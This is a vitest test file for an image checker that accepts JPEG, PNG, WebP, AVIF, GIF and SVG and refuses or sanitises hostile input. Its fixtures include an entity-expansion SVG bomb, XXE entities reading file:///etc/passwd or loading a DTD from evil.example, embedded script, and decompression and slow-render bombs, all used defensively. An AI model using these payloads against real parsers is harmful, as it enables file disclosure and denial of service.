import sharp from "sharp";
import { describe, expect, test } from "vitest";

import { checkPicture } from "../../../src/publisher/fetch/check-picture.ts";
import { pngOf } from "../../fixtures/png.ts";

const drawing = () => sharp({ create: { width: 40, height: 30, channels: 3, background: "#f60" } });
const text = (content: string) => new TextEncoder().encode(content);

/** A PNG whose header claims a size that its data does not have. */
const hugePng = (width: number, height: number) =>
  pngOf(width, height, { bitDepth: 8, pixels: Buffer.alloc(1024) });

const svg = (inside: string, size = 'width="40" height="30"') =>
  `<svg xmlns="http://www.w3.org/2000/svg" ${size}>${inside}</svg>`;
const bomb = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "${"x".repeat(100)}">${"bcdefghij"
  .split("")
  .map((name, index) => `<!ENTITY ${name} "${`&${"abcdefghi"[index] ?? ""};`.repeat(10)}">`)
  .join("")}]><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>`;

describe("accepted pictures", () => {
  test("keep their bytes and get the extension of their format", async () => {
    for (const [kind, extension] of [
      ["jpeg", "jpg"],
      ["png", "png"],
      ["webp", "webp"],
      ["avif", "avif"],
      ["gif", "gif"],
    ] as const) {
      const bytes = await drawing().toFormat(kind, { effort: 1 }).toBuffer();
      expect(await checkPicture(bytes)).toEqual({ bytes, extension, width: 40, height: 30 });
    }
  });

  test("are measured after rotation by their EXIF orientation", async () => {
    const bytes = await drawing().withMetadata({ orientation: 6 }).jpeg().toBuffer();
    expect(await checkPicture(bytes)).toMatchObject({ width: 30, height: 40 });
  });

  test("are measured by one frame when animated", async () => {
    const frames = await Promise.all(
      ["#f60", "#06f"].map((background) =>
        sharp({ create: { width: 20, height: 10, channels: 3, background } })
          .png()
          .toBuffer(),
      ),
    );
    const bytes = await sharp(frames, { join: { animated: true } })
      .gif()
      .toBuffer();
    expect((await sharp(bytes).metadata()).pages).toBe(2);
    expect(await checkPicture(bytes)).toMatchObject({ width: 20, height: 10 });
  });

  test("stay SVG when nothing can run or load in them", async () => {
    const drawn = svg('<circle r="9" fill="#f60"/>', 'width="80" height="60" viewBox="0 0 80 60"');
    const { bytes, ...facts } = await checkPicture(text(`<!-- by hand -->${drawn}`));
    expect(facts).toEqual({ extension: "svg", width: 1600, height: 1200 });
    expect(new TextDecoder().decode(bytes)).toBe(drawn);
  });

  test("are rendered as PNG when their SVG weighs more", async () => {
    const random = (seed: number) => ((seed * 7919) % 997) / 10;
    const lines = Array.from({ length: 4000 }, (_, at) => `L${random(at)} ${random(at * 3 + 1)}`);
    const drawn = svg(`<path opacity=".01" d="M0 0${lines.join("")}"/>`, 'viewBox="0 0 100 100"');
    expect(await checkPicture(text(drawn))).toMatchObject({ extension: "png", width: 1600 });
  });

  test("are rendered as PNG without scripts when they are other SVG", async () => {
    const { bytes, extension, width, height } = await checkPicture(
      text(
        `<?xml version="1.0"?>\n<!-- made by hand -->\n${svg('<script>alert(1)</script><rect width="80" height="60" fill="#f60"/>', 'width="80" height="60"')}`,
      ),
    );
    expect([extension, width, height]).toEqual(["png", 1600, 1200]);
    expect(await sharp(bytes).metadata()).toMatchObject({
      format: "png",
      width: 1600,
      height: 1200,
    });
  });
});

const illustrator = `<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 24.0.1, SVG Export Plug-In -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
	<!ENTITY ns_extend "http://ns.adobe.com/Extensibility/1.0/">
	<!ENTITY ns_svg "http://www.w3.org/2000/svg">
	<!ENTITY ns_xlink "http://www.w3.org/1999/xlink">
]>
<svg version="1.1" xmlns:x="&ns_extend;" xmlns="&ns_svg;" xmlns:xlink="&ns_xlink;" width="80px" height="60px" viewBox="0 0 80 60">
<switch><foreignObject requiredExtensions="&ns_extend;"/><g><rect width="80" height="60" fill="#ff6600"/></g></switch>
</svg>`;
const orange = svg('<rect width="80" height="60" fill="#ff6600"/>', 'width="80" height="60"');
const utf16 = (content: string) => Buffer.from(content, "utf16le");
const shadow = (inside: string) =>
  svg(
    `<filter id="s">${inside}</filter><rect width="80" height="60" fill="#ff6600" filter="url(#s)"/>`,
    'width="80" height="60"',
  );

test.for([
  ["Illustrator's", text(illustrator)],
  [
    "one with declarations that it doesn't use",
    text(`<!DOCTYPE svg [
    <!ENTITY % more SYSTEM "https://evil.example/a.dtd"> %more; <!-- ]> -->
    <!ATTLIST svg a CDATA "]>"> <!ENTITY used '#ff6600'> <!ENTITY used "no">
    <!ENTITY other SYSTEM "file:///etc/passwd"> ]><!-- then -->${orange.replace("#ff6600", "&used;")}`),
  ],
  ["one behind a long comment", text(`<!-- ${"-> ".repeat(40_000)} -->\n${orange}`)],
  [
    "one behind instructions",
    text(`<?xml version="1.0"?><?xml-stylesheet href="a.css"?>\n${orange}`),
  ],
  ["UTF-16", utf16(`\uFEFF<?xml version="1.0" encoding="UTF-16"?>${orange}`)],
  ["UTF-16 in the other order", utf16(`\uFEFF${orange}`).swap16()],
  ["UTF-16 without a mark", utf16(`<?xml version="1.0"?>${orange}`)],
  ["UTF-8 behind a mark", text(`\uFEFF${orange}`)],
  [
    "a declared encoding",
    Buffer.from(`<?xml version="1.0" encoding="ISO-8859-1"?><!-- é -->${orange}`, "latin1"),
  ],
  [
    "a shadow of Figma",
    text(
      shadow(
        '<feFlood flood-opacity="0" result="b"/><feColorMatrix in="SourceAlpha" type="matrix" values="0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 127 0"/><feOffset dy="4"/><feGaussianBlur stdDeviation="2"/><feComposite in2="SourceAlpha" operator="out"/><feBlend in2="b"/><feBlend in="SourceGraphic"/>',
      ),
    ),
  ],
  [
    "a shadow of Illustrator",
    text(
      shadow(
        '<feOffset dx="7" dy="7" in="SourceAlpha"/><feGaussianBlur result="blur" stdDeviation="5"/><feFlood flood-color="#000" flood-opacity=".75"/><feComposite in2="blur" operator="in"/><feComposite in="SourceGraphic"/>',
      ),
    ),
  ],
  ["a shadow in one word", text(shadow('<feDropShadow dx="1" dy="1" stdDeviation="1"/>'))],
] as const)("a drawing is drawn: %s", async ([, bytes]) => {
  const { bytes: drawn, width, height } = await checkPicture(bytes);
  expect([width, height]).toEqual([1600, 1200]);
  const { dominant } = await sharp(drawn).stats();
  expect(dominant.r).toBeGreaterThan(240);
  expect(dominant.b).toBeLessThan(20);
});

describe("refused pictures", () => {
  test.for([
    [
      "HTML that calls itself a picture",
      text("<!doctype html><title>Not found</title>"),
      /^it is .*, not JPEG, PNG, WebP, AVIF, GIF or SVG$/,
    ],
    ["nothing at all", new Uint8Array(), /^it is of no known kind/],
    [
      "a PNG of 9,000 × 9,000 pixels in its header",
      hugePng(9000, 9000),
      /^it can't be decoded as png \(.*pixel limit/,
    ],
    ["a PNG that holds less than it claims", hugePng(2000, 2000), /^it can't be decoded as png/],
    [
      "an SVG that multiplies entities",
      text(bomb),
      /^it can't be drawn as SVG \(its entity j is no text\)$/,
    ],
    [
      "an SVG that repeats a long entity",
      text(
        `<!DOCTYPE svg [<!ENTITY a "${"x".repeat(10_000)}">]>${svg(`<text>${"&a;".repeat(1000)}</text>`)}`,
      ),
      /^it can't be drawn as SVG \(its entities make it larger than 1 MB\)$/,
    ],
    [
      "an SVG that names a file",
      text(`<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${svg("<text>&a;</text>")}`),
      /^it can't be drawn as SVG \(its entity a is no text\)$/,
    ],
    [
      "an SVG with markup in an entity",
      text(`<!DOCTYPE svg [<!ENTITY a "<script/>">]>${svg("&a;")}`),
      /^it can't be drawn as SVG \(its entity a is no text\)$/,
    ],
    ["another kind of XML", text('<?xml version="1.0"?><rss/>'), /^it is .*, not JPEG/],
    [
      "an SVG of a million pixels each way",
      text(svg("", 'width="1000000" height="1000000"')),
      /^it can't be drawn as SVG/,
    ],
    [
      "an SVG that is not well formed",
      text("<svg xmlns='http://www.w3.org/2000/svg'><g"),
      /^it can't be drawn as SVG/,
    ],
    ["a PDF", text("%PDF-1.7\n%âãÏÓ\n"), /^it is application\/pdf, not JPEG/],
  ] as const)("%s", async ([, bytes, reason]) => {
    await expect(checkPicture(bytes)).rejects.toThrow(reason);
  });

  test("a JPEG that is cut off", async () => {
    const whole = await sharp({
      create: { width: 400, height: 300, channels: 3, background: "#123" },
    })
      .jpeg()
      .toBuffer();
    await expect(checkPicture(whole.subarray(0, whole.length - 200))).rejects.toThrow(
      /^it can't be decoded as jpg/,
    );
  });

  test.for([
    ["noise", '<filter id="f"><feTurbulence/></filter>', "it has a filter other than a shadow"],
    ["noise under another name", "<x:feTurbulence/>", "it has a filter other than a shadow"],
    [
      "a picture in a filter",
      '<filter id="f"><feImage href="a.png"/></filter>',
      "it has a filter other than a shadow",
    ],
    ["many filters", '<g filter="url(#f)"/>'.repeat(16), "it has more than 5 filters"],
    ["many elements", "<g/>".repeat(5001), "it has more than 5000 elements"],
    ["a megabyte", `<!--${"x".repeat(1024 * 1024)}-->`, "it is larger than 1 MB"],
  ] as const)("an SVG with %s, without rendering it", async ([, inside, reason]) => {
    await expect(checkPicture(text(svg(inside)))).rejects.toThrow(
      `it can't be drawn as SVG (${reason})`,
    );
  });

  test("an unknown format after many comments, without delay", async () => {
    // As one regular expression it took 1.5 s for 22 comments, and twice that for each further one.
    await expect(checkPicture(text("<!---->".repeat(500)))).rejects.toThrow(
      /^it is of no known kind/,
    );
  });

  test("a picture with a side too long for its variants", async () => {
    const bytes = await sharp({
      create: { width: 10, height: 20_000, channels: 3, background: "#123" },
    })
      .png()
      .toBuffer();
    await expect(checkPicture(bytes)).rejects.toThrow(
      "it can't be decoded as png (a side is longer than 16383 pixels)",
    );
  });

  test("an SVG that renders for minutes, after 5 seconds of processor time; others are rendered", async () => {
    const uses = (of: string) => `<use href="#${of}"/>`.repeat(10);
    const groups = "bcdefg"
      .split("")
      .map((id, place) => `<g id="${id}">${uses("abcdef"[place] ?? "")}</g>`)
      .join("");
    const slow = svg(
      `<defs><g id="a"><rect width="800" height="600" opacity=".5"/></g>${groups}</defs><use href="#g"/>`,
      'width="800" height="600"',
    );
    const [refused, drawn] = await Promise.allSettled([
      checkPicture(text(slow)),
      checkPicture(text(svg('<rect width="9" height="9"/>'))),
    ]);
    expect(refused).toMatchObject({
      reason: { message: "it can't be drawn as SVG (it takes more than 5 seconds)" },
    });
    expect(drawn.status).toBe("fulfilled");
  });
});
